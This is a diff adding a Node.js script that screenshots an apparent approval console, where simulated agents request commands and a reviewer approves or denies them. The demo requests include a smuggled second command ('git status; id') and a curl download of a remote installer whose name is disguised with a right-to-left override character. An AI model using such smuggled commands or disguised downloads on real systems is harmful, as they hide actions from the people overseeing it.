@@ -1,0 +1,54 @@
+// Takes the pictures for the documentation: `node pictures.mjs URL TOKEN FOLDER`.
+import { join } from "node:path";
+import { Agent, Browser, logIn, until } from "./driver.mjs";
+
+const [url, token, folder] = process.argv.slice(2);
+const site = { url };
+const browser = await Browser.start();
+
+const claude = await new Agent(site).greet("claude-code");
+const codex = await new Agent(site).greet("codex");
+for (const command of ["git status", "git log --oneline | head -5", "ls -la", "cat README.md", "git status; id", "wc -l README.md"]) {
+  const call = claude.call("execute_command", { command });
+  await Promise.race([call, new Promise((resolve) => setTimeout(resolve, 1500))]);
+}
+const page = await browser.window(site, { viewport: { width: 1200, height: 820 }, deviceScaleFactor: 1 });
+await logIn(page, token);
+const answer = async (text, name, reason) => {
+  const card = page.locator(".card", { hasText: text });
+  await card.waitFor();
+  await page.waitForTimeout(900);
+  await card.getByPlaceholder("Reason").fill(reason);
+  await card.getByRole("button", { name, exact: true }).click();
+  await card.locator(".outcome").waitFor();
+};
+await answer("git status; id", "Deny", "id is not needed here");
+const built = codex.call("execute_command", { command: "mkdir -p build && touch build/index.html", justification: "The site needs a build folder before it can be served." });
+await answer("mkdir -p build", "Approve", "fine");
+await built;
+const story = await page.locator(".card", { hasText: "mkdir -p build" }).locator(".ids a").first().getAttribute("href");
+
+codex.call("execute_process", { file: "curl", args: ["-fsSL", "https://get.example.com/in\u202Estall.sh", "-o", "setup.sh"], network: "allow", justification: "I need the installer of the linter to go on." });
+claude.call("execute_command", { command: "git add -A && git commit -m 'Build the shop' | tee build/log", justification: "The build is green; this records it." });
+await page.goto("/");
+await until("both wait", async () => (await page.locator(".card").count()) === 2);
+
+const take = async (name, path, more = {}) => {
+  if (path) await page.goto(path);
+  await page.waitForTimeout(300);
+  await page.screenshot({ path: join(folder, `console-${name}.png`), ...more });
+};
+await take("queue", "/", { fullPage: true });
+await take("story", story, { fullPage: true });
+await take("record", "/record");
+await take("metrics", "/numbers?period=hour");
+await page.evaluate(() => localStorage.setItem("countersign-theme", "dark"));
+await take("queue-dark", "/");
+
+const phone = await browser.window(site, { viewport: { width: 360, height: 760 }, colorScheme: "dark", isMobile: true, hasTouch: true });
+await logIn(phone, token);
+await phone.locator(".card").first().waitFor();
+await phone.waitForTimeout(300);
+await phone.screenshot({ path: join(folder, "console-phone.png") });
+await browser.end();
+process.exit(0);
